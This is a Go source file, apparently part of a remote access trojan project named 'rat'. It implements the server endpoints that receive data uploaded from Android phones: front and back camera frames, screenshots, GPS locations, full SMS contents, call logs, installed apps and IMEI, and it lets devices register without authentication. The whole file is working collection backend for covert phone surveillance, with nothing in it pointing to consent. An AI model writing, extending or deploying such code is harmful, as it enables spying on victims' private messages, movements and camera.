package handler

import (
	"bytes"
	"encoding/base64"
	"errors"
	"net/http"
	"strings"

	"github.com/Sp1ker2/rat/internal/auth"
	"github.com/Sp1ker2/rat/internal/errs"
	"github.com/Sp1ker2/rat/internal/model"
	"github.com/Sp1ker2/rat/internal/session"
	"github.com/Sp1ker2/rat/internal/storage"
	"github.com/gin-gonic/gin"
	"github.com/google/uuid"
	"go.uber.org/zap"
)

var (
	jpegMagic = []byte{0xff, 0xd8}
	pngMagic  = []byte("\x89PNG")
)

// IngestHandler handles the device-facing REST upload API. All routes sit
// behind DeviceAuth; the device profile is taken from the request context.
type IngestHandler struct {
	store        storage.Store
	registry     *session.Registry
	maxFrameSize int64
	logger       *zap.Logger
}

// NewIngestHandler creates the ingest handler.
func NewIngestHandler(store storage.Store, registry *session.Registry, maxFrameSize int64, logger *zap.Logger) *IngestHandler {
	return &IngestHandler{store: store, registry: registry, maxFrameSize: maxFrameSize, logger: logger}
}

func ctxDevice(c *gin.Context) *model.Device {
	return c.MustGet(ctxDeviceKey).(*model.Device)
}

// SelfRegisterRequest is the body for POST /api/device/register.
type SelfRegisterRequest struct {
	DeviceID       string `json:"device_id" binding:"required"`
	Manufacturer   string `json:"manufacturer"`
	Model          string `json:"model"`
	AndroidVersion string `json:"android_version"`
	SDK            int    `json:"sdk"`
	IMEI           string `json:"imei"`
}

// SelfRegister godoc
// POST /api/device/register — unauthenticated get-or-create keyed by the
// device UUID: a known ID gets its profile refreshed, an unknown one is
// provisioned with a generated token. The token is never returned here;
// it must be retrieved out of band (admin API) or the device stays on the
// WS handshake path.
//
// TODO(product review): same open provisioning concern as the register
// handshake; see session.Registry.
func (h *IngestHandler) SelfRegister(c *gin.Context) {
	var req SelfRegisterRequest
	if err := c.ShouldBindJSON(&req); err != nil {
		c.JSON(http.StatusBadRequest, gin.H{"error": "invalid request", "message": err.Error()})
		return
	}
	if _, err := uuid.Parse(req.DeviceID); err != nil {
		c.JSON(http.StatusBadRequest, gin.H{"error": "device_id must be a UUID"})
		return
	}

	attrs := storage.DeviceAttrs{
		IMEI:           req.IMEI,
		Model:          req.Model,
		Manufacturer:   req.Manufacturer,
		AndroidVersion: req.AndroidVersion,
		SDK:            req.SDK,
	}
	dev, err := h.store.GetDevice(c.Request.Context(), req.DeviceID)
	switch {
	case err == nil:
		if dev, err = h.store.UpdateDevice(c.Request.Context(), req.DeviceID, "", attrs); err != nil {
			c.JSON(http.StatusInternalServerError, gin.H{"error": "failed to update device"})
			return
		}
	case errors.Is(err, errs.ErrDeviceNotFound):
		name := strings.TrimSpace(req.Manufacturer + " " + req.Model)
		if name == "" {
			name = "Unknown Device"
		}
		dev, err = h.store.CreateDevice(c.Request.Context(), req.DeviceID, name, auth.GenerateDeviceToken(), attrs)
		if err != nil {
			c.JSON(http.StatusInternalServerError, gin.H{"error": "failed to register device"})
			return
		}
		h.logger.Info("device self-registered",
			zap.String("device_id", dev.ID),
			zap.String("name", dev.Name))
	default:
		c.JSON(http.StatusInternalServerError, gin.H{"error": "failed to register device"})
		return
	}

	c.JSON(http.StatusOK, gin.H{
		"status":      "success",
		"device_id":   dev.ID,
		"device_name": dev.Name,
		"message":     "device registered successfully",
	})
}

// CameraFrameRequest is the body for POST /api/device/camera/base64.
type CameraFrameRequest struct {
	Camera    string `json:"camera" binding:"required"`
	Data      string `json:"data" binding:"required"`
	Width     int    `json:"width" binding:"required"`
	Height    int    `json:"height" binding:"required"`
	Timestamp int64  `json:"timestamp"`
}

// UploadCameraFrame godoc
// POST /api/device/camera/base64
func (h *IngestHandler) UploadCameraFrame(c *gin.Context) {
	dev := ctxDevice(c)
	var req CameraFrameRequest
	if err := c.ShouldBindJSON(&req); err != nil {
		c.JSON(http.StatusBadRequest, gin.H{"error": "invalid request", "message": err.Error()})
		return
	}
	if req.Camera != "front" && req.Camera != "back" {
		c.JSON(http.StatusBadRequest, gin.H{"error": "camera must be 'front' or 'back'"})
		return
	}
	frame, err := base64.StdEncoding.DecodeString(req.Data)
	if err != nil {
		c.JSON(http.StatusBadRequest, gin.H{"error": "invalid base64 data"})
		return
	}
	if !bytes.HasPrefix(frame, jpegMagic) {
		c.JSON(http.StatusBadRequest, gin.H{"error": "image must be JPEG format"})
		return
	}
	if h.maxFrameSize > 0 && int64(len(frame)) > h.maxFrameSize {
		c.JSON(http.StatusRequestEntityTooLarge, gin.H{"error": "frame too large"})
		return
	}
	saved, err := h.store.SaveCameraFrame(c.Request.Context(), dev.ID, req.Camera, frame, req.Width, req.Height, req.Timestamp)
	if err != nil {
		c.JSON(http.StatusInternalServerError, gin.H{"error": "failed to save frame"})
		return
	}
	h.registry.UpdateTelemetry(dev.ID, model.TelemetryUpdate{CurrentCamera: req.Camera})
	h.logger.Debug("frame uploaded",
		zap.String("device_id", dev.ID),
		zap.String("camera", req.Camera),
		zap.Int("size", len(frame)))
	c.JSON(http.StatusOK, gin.H{"status": "success", "frame_id": saved.ID})
}

// ScreenshotRequest is the body for POST /api/device/screenshot/base64.
type ScreenshotRequest struct {
	Data      string `json:"data" binding:"required"`
	Width     int    `json:"width" binding:"required"`
	Height    int    `json:"height" binding:"required"`
	Timestamp int64  `json:"timestamp"`
}

// UploadScreenshot godoc
// POST /api/device/screenshot/base64 — stored as camera "screen".
func (h *IngestHandler) UploadScreenshot(c *gin.Context) {
	dev := ctxDevice(c)
	var req ScreenshotRequest
	if err := c.ShouldBindJSON(&req); err != nil {
		c.JSON(http.StatusBadRequest, gin.H{"error": "invalid request", "message": err.Error()})
		return
	}
	frame, err := base64.StdEncoding.DecodeString(req.Data)
	if err != nil {
		c.JSON(http.StatusBadRequest, gin.H{"error": "invalid base64 data"})
		return
	}
	if !bytes.HasPrefix(frame, jpegMagic) && !bytes.HasPrefix(frame, pngMagic) {
		c.JSON(http.StatusBadRequest, gin.H{"error": "image must be PNG or JPEG format"})
		return
	}
	saved, err := h.store.SaveCameraFrame(c.Request.Context(), dev.ID, "screen", frame, req.Width, req.Height, req.Timestamp)
	if err != nil {
		c.JSON(http.StatusInternalServerError, gin.H{"error": "failed to save screenshot"})
		return
	}
	c.JSON(http.StatusOK, gin.H{"status": "success", "frame_id": saved.ID})
}

// LocationRequest is the body for POST /api/device/location. Lat/Lon are
// pointers so 0 (equator, prime meridian) passes required-field binding.
type LocationRequest struct {
	Lat       *float64 `json:"lat" binding:"required"`
	Lon       *float64 `json:"lon" binding:"required"`
	Accuracy  *float64 `json:"accuracy"`
	Timestamp int64    `json:"timestamp"`
}

// UploadLocation godoc
// POST /api/device/location
func (h *IngestHandler) UploadLocation(c *gin.Context) {
	dev := ctxDevice(c)
	var req LocationRequest
	if err := c.ShouldBindJSON(&req); err != nil {
		c.JSON(http.StatusBadRequest, gin.H{"error": "invalid request", "message": err.Error()})
		return
	}
	lat, lon := *req.Lat, *req.Lon
	if lat < -90 || lat > 90 {
		c.JSON(http.StatusBadRequest, gin.H{"error": "latitude must be between -90 and 90"})
		return
	}
	if lon < -180 || lon > 180 {
		c.JSON(http.StatusBadRequest, gin.H{"error": "longitude must be between -180 and 180"})
		return
	}
	saved, err := h.store.SaveLocation(c.Request.Context(), dev.ID, lat, lon, req.Accuracy, req.Timestamp)
	if err != nil {
		c.JSON(http.StatusInternalServerError, gin.H{"error": "failed to save location"})
		return
	}
	h.registry.UpdateTelemetry(dev.ID, model.TelemetryUpdate{Location: map[string]any{
		"lat":       lat,
		"lon":       lon,
		"timestamp": req.Timestamp,
	}})
	c.JSON(http.StatusOK, gin.H{"status": "success", "location_id": saved.ID})
}

// SystemInfoRequest is the body for POST /api/device/system-info.
type SystemInfoRequest struct {
	BatteryLevel *int     `json:"battery_level"`
	IsCharging   *bool    `json:"is_charging"`
	BatteryTemp  *float64 `json:"battery_temp"`
	MemoryUsage  *int64   `json:"memory_usage"`
	StorageUsage *float64 `json:"storage_usage"`
	Timestamp    int64    `json:"timestamp"`
}

// UploadSystemInfo godoc
// POST /api/device/system-info
func (h *IngestHandler) UploadSystemInfo(c *gin.Context) {
	dev := ctxDevice(c)
	var req SystemInfoRequest
	if err := c.ShouldBindJSON(&req); err != nil {
		c.JSON(http.StatusBadRequest, gin.H{"error": "invalid request", "message": err.Error()})
		return
	}
	data := map[string]any{"timestamp": req.Timestamp}
	if req.BatteryLevel != nil {
		data["battery_level"] = *req.BatteryLevel
	}
	if req.IsCharging != nil {
		data["is_charging"] = *req.IsCharging
	}
	if req.BatteryTemp != nil {
		data["battery_temp"] = *req.BatteryTemp
	}
	if req.MemoryUsage != nil {
		data["memory_usage"] = *req.MemoryUsage
	}
	if req.StorageUsage != nil {
		data["storage_usage"] = *req.StorageUsage
	}
	saved, err := h.store.LogDeviceEvent(c.Request.Context(), dev.ID, "system_info", data, req.Timestamp)
	if err != nil {
		c.JSON(http.StatusInternalServerError, gin.H{"error": "failed to save system info"})
		return
	}
	h.registry.UpdateTelemetry(dev.ID, model.TelemetryUpdate{BatteryLevel: req.BatteryLevel})
	c.JSON(http.StatusOK, gin.H{"status": "success", "event_id": saved.ID})
}

// SMSMessage is one uploaded SMS.
type SMSMessage struct {
	Address  string `json:"address" binding:"required"`
	Body     string `json:"body"`
	Date     int64  `json:"date"`
	Type     int    `json:"type" binding:"required"` // 1=received, 2=sent
	ThreadID *int64 `json:"thread_id"`
	Read     *bool  `json:"read"`
}

// UploadSMS godoc
// POST /api/device/sms
func (h *IngestHandler) UploadSMS(c *gin.Context) {
	dev := ctxDevice(c)
	var messages []SMSMessage
	if err := c.ShouldBindJSON(&messages); err != nil {
		c.JSON(http.StatusBadRequest, gin.H{"error": "invalid request", "message": err.Error()})
		return
	}
	for _, msg := range messages {
		payload := map[string]any{
			"address": msg.Address,
			"body":    msg.Body,
			"date":    msg.Date,
			"type":    msg.Type,
		}
		if msg.ThreadID != nil {
			payload["thread_id"] = *msg.ThreadID
		}
		if msg.Read != nil {
			payload["read"] = *msg.Read
		}
		if _, err := h.store.LogDeviceEvent(c.Request.Context(), dev.ID, "sms", payload, msg.Date); err != nil {
			c.JSON(http.StatusInternalServerError, gin.H{"error": "failed to save sms"})
			return
		}
	}
	c.JSON(http.StatusOK, gin.H{"status": "success", "count": len(messages)})
}

// CallLogEntry is one uploaded call record.
type CallLogEntry struct {
	Number   string `json:"number" binding:"required"`
	Name     string `json:"name"`
	Date     int64  `json:"date"`
	Duration int    `json:"duration"`
	Type     int    `json:"type" binding:"required"` // 1=incoming, 2=outgoing, 3=missed
}

// UploadCallLogs godoc
// POST /api/device/call-logs
func (h *IngestHandler) UploadCallLogs(c *gin.Context) {
	dev := ctxDevice(c)
	var calls []CallLogEntry
	if err := c.ShouldBindJSON(&calls); err != nil {
		c.JSON(http.StatusBadRequest, gin.H{"error": "invalid request", "message": err.Error()})
		return
	}
	for _, call := range calls {
		payload := map[string]any{
			"number":   call.Number,
			"name":     call.Name,
			"date":     call.Date,
			"duration": call.Duration,
			"type":     call.Type,
		}
		if _, err := h.store.LogDeviceEvent(c.Request.Context(), dev.ID, "call_log", payload, call.Date); err != nil {
			c.JSON(http.StatusInternalServerError, gin.H{"error": "failed to save call log"})
			return
		}
	}
	c.JSON(http.StatusOK, gin.H{"status": "success", "count": len(calls)})
}

// InstalledApp is one uploaded application record.
type InstalledApp struct {
	PackageName string `json:"package_name" binding:"required"`
	AppName     string `json:"app_name" binding:"required"`
	VersionName string `json:"version_name"`
	VersionCode *int64 `json:"version_code"`
	InstallTime *int64 `json:"install_time"`
	UpdateTime  *int64 `json:"update_time"`
}

// InstalledAppsRequest is the body for POST /api/device/installed-apps.
type InstalledAppsRequest struct {
	Apps      []InstalledApp `json:"apps" binding:"required"`
	Timestamp int64          `json:"timestamp"`
}

// UploadInstalledApps godoc
// POST /api/device/installed-apps — one event holding the full list.
func (h *IngestHandler) UploadInstalledApps(c *gin.Context) {
	dev := ctxDevice(c)
	var req InstalledAppsRequest
	if err := c.ShouldBindJSON(&req); err != nil {
		c.JSON(http.StatusBadRequest, gin.H{"error": "invalid request", "message": err.Error()})
		return
	}
	apps := make([]map[string]any, 0, len(req.Apps))
	for _, app := range req.Apps {
		entry := map[string]any{
			"package_name": app.PackageName,
			"app_name":     app.AppName,
		}
		if app.VersionName != "" {
			entry["version_name"] = app.VersionName
		}
		if app.VersionCode != nil {
			entry["version_code"] = *app.VersionCode
		}
		if app.InstallTime != nil {
			entry["install_time"] = *app.InstallTime
		}
		if app.UpdateTime != nil {
			entry["update_time"] = *app.UpdateTime
		}
		apps = append(apps, entry)
	}
	_, err := h.store.LogDeviceEvent(c.Request.Context(), dev.ID, "installed_apps", map[string]any{
		"apps":  apps,
		"count": len(apps),
	}, req.Timestamp)
	if err != nil {
		c.JSON(http.StatusInternalServerError, gin.H{"error": "failed to save installed apps"})
		return
	}
	c.JSON(http.StatusOK, gin.H{"status": "success", "count": len(apps)})
}

// DeviceLog is one uploaded free-form log line.
type DeviceLog struct {
	Level     string `json:"level" binding:"required"` // info, warning, error
	Tag       string `json:"tag" binding:"required"`
	Message   string `json:"message" binding:"required"`
	Timestamp int64  `json:"timestamp"`
}

// UploadLogs godoc
// POST /api/device/logs
func (h *IngestHandler) UploadLogs(c *gin.Context) {
	dev := ctxDevice(c)
	var logs []DeviceLog
	if err := c.ShouldBindJSON(&logs); err != nil {
		c.JSON(http.StatusBadRequest, gin.H{"error": "invalid request", "message": err.Error()})
		return
	}
	for _, entry := range logs {
		payload := map[string]any{
			"level":   entry.Level,
			"tag":     entry.Tag,
			"message": entry.Message,
		}
		if _, err := h.store.LogDeviceEvent(c.Request.Context(), dev.ID, "log_"+entry.Level, payload, entry.Timestamp); err != nil {
			c.JSON(http.StatusInternalServerError, gin.H{"error": "failed to save logs"})
			return
		}
	}
	c.JSON(http.StatusOK, gin.H{"status": "success", "count": len(logs)})
}
